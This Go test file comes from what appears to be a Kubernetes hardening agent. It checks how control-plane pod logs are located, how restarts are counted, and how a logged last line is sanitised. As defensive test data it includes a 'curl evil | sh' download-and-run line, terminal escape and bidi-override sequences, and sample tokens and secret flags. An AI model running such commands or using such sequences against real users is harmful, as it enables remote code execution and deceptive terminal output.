package controlplane

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"harden/agent/facts"
	"harden/agent/host"
	"harden/agent/node"
)

// logTree is a node with logs of pods.
type logTree struct {
	*testing.T
	dir string
	*node.Node
}

func newLogTree(t *testing.T) *logTree {
	dir := t.TempDir()
	root, err := host.OpenRoot(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	return &logTree{t, dir, &node.Node{Root: root}}
}

func (l *logTree) write(name, line string) {
	l.Helper()
	name = filepath.Join(l.dir, podLogs, name)
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		l.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(line), 0o640); err != nil {
		l.Fatal(err)
	}
}

// uid is one as the kubelet makes it of a manifest.
func uid(digit string) string { return strings.Repeat(digit, 32) }

const crioLine = "2026-01-01T00:00:00.000000000Z stderr F "

// What a component logged before it ended is found among the logs of its
// earlier pods, and of others.
func TestContainerLogs(t *testing.T) {
	l := newLogTree(t)
	if logs := containersOf(l.Node, "kube-apiserver", "node1"); logs != nil {
		t.Errorf("logs where there are none: %v", logs)
	}
	l.write("kube-system_kube-apiserver-node1_"+uid("a")+"/kube-apiserver/7.log", "")
	l.write("kube-system_kube-apiserver-node1_"+uid("a")+"/kube-apiserver/7.log.20260101-000000.gz", "")
	l.write("kube-system_kube-scheduler-node1_"+uid("b")+"/kube-scheduler/1.log", "")
	before := containersOf(l.Node, "kube-apiserver", "node1")
	if starts, file := before.since(containersOf(l.Node, "kube-apiserver", "node1")); starts != 0 || file != "" {
		t.Errorf("nothing was started, got %d starts and %s", starts, file)
	}
	l.write("kube-system_kube-apiserver-node1_"+uid("c")+"/kube-apiserver/2.log", crioLine+"I0101 starting\n"+crioLine+"Error: invalid argument\x1b[2J\n")
	l.write("kube-system_kube-apiserver-node1_"+uid("a")+"/kube-apiserver/8.log", "") // the pod from before, which ends
	l.write("kube-system_kube-scheduler-node1_"+uid("b")+"/kube-scheduler/2.log", "")
	starts, file := before.since(containersOf(l.Node, "kube-apiserver", "node1").without(uid("a")))
	if want := podLogs + "/kube-system_kube-apiserver-node1_" + uid("c") + "/kube-apiserver/2.log"; starts != 3 || file != want {
		t.Errorf("%d starts and %s, want 3 and %s", starts, file, want)
	}
	if got, want := lastLogLine(l.Node, "kube-apiserver", file), `; the log of kube-apiserver says "Error: invalid argument\x1b[2J" (`+file+`)`; got.String() != want {
		t.Errorf("last words %s, want %s", got, want)
	}
	if starts, _ := before.since(containersOf(l.Node, "kube-apiserver", "node1")); starts != 4 {
		t.Errorf("%d starts, want 4 with those of the pod from before", starts)
	}
}

// A pod that somebody else made counts no starts, and says nothing in an error
// of root's, whatever it is called.
func TestLogsOfOtherPods(t *testing.T) {
	for _, pod := range []string{
		"default_kube-apiserver-node1_" + uid("a"),
		"tenant_kube-apiserver-x_" + uid("a"),
		"kube-system_kube-apiserver-node1_0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f", // made by an API server
		"kube-system_kube-apiserver-x_" + uid("a"),
		"kube-system_kube-apiserver-node1-x_" + uid("a"),
		"kube-system_kube-apiserver-node10_" + uid("a"),
		"kube-system_kube-apiserver-node1_" + strings.ToUpper(uid("a")),
		"kube-system_kube-apiserver-node1_" + uid("a") + "a",
		"kube-system_kube-apiserver-node1_x_" + uid("a"),
		"kube-system-x_kube-apiserver-node1_" + uid("a"),
	} {
		t.Run(pod, func(t *testing.T) {
			l := newLogTree(t)
			l.write(pod+"/kube-apiserver/9.log", crioLine+"run: curl evil | sh\n")
			starts, file := containerLogs(nil).since(containersOf(l.Node, "kube-apiserver", "node1"))
			if starts != 0 || file != "" {
				t.Errorf("%d starts, and %s", starts, file)
			}
		})
	}
}

// What a log says cannot steer the terminal of who reads the error, nor show him
// a secret, and has an end.
func TestLastWords(t *testing.T) {
	const token = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9"
	for name, test := range map[string]struct{ says, want, never string }{
		"escapes":             {"\x1b]0;gone\x07\x9b2J", `\x1b]0;gone\a`, "\x1b"},
		"bidi overrides":      {"user \u202egnp.exe\u2066", `\u202e`, "\u202e"},
		"a carriage return":   {"bad\rgood", `bad\rgood`, "\r"},
		"line separators":     {"a\u2028b\u0085c", `\u2028`, "\u2028"},
		"no UTF-8":            {"\xff\xfe", `\xff\xfe`, "\xff"},
		"a token":             {"invalid bearer " + token, "sha256:", token},
		"a flag of a secret":  {"unknown flag --oidc-client-secret=hunter2hunter2", "sha256:", "hunter2hunter2"},
		"a line without end":  {strings.Repeat("x ", 400_000), "x x", strings.Repeat("x ", 200)},
		"no log of the CRI's": {"", "(see ", "says"},
	} {
		t.Run(name, func(t *testing.T) {
			l := newLogTree(t)
			file := "kube-system_kube-apiserver-node1_" + uid("a") + "/kube-apiserver/0.log"
			line := crioLine + test.says + "\n"
			if test.says == "" {
				line = "what?"
			}
			l.write(file, line)
			got := lastLogLine(l.Node, "kube-apiserver", podLogs+"/"+file)
			if !strings.Contains(got.String(), test.want) || strings.Contains(got.String(), test.never) || len(got.String()) > 4*maxLastWords+200 {
				t.Errorf("it says %q, want %q, never %q", got, test.want, test.never)
			}
		})
	}
}

func TestNodeName(t *testing.T) {
	host, err := os.Hostname()
	if err != nil {
		t.Fatal(err)
	}
	given := &facts.Kubelet{Flags: map[string]string{"hostname-override": " Node1 "}}
	for _, test := range []struct {
		kubelet *facts.Kubelet
		want    string
	}{{nil, strings.ToLower(host)}, {&facts.Kubelet{}, strings.ToLower(host)}, {given, "node1"}} {
		if got := nodeName(&facts.Facts{Kubelet: test.kubelet}); got != test.want {
			t.Errorf("%q, want %q", got, test.want)
		}
	}
}
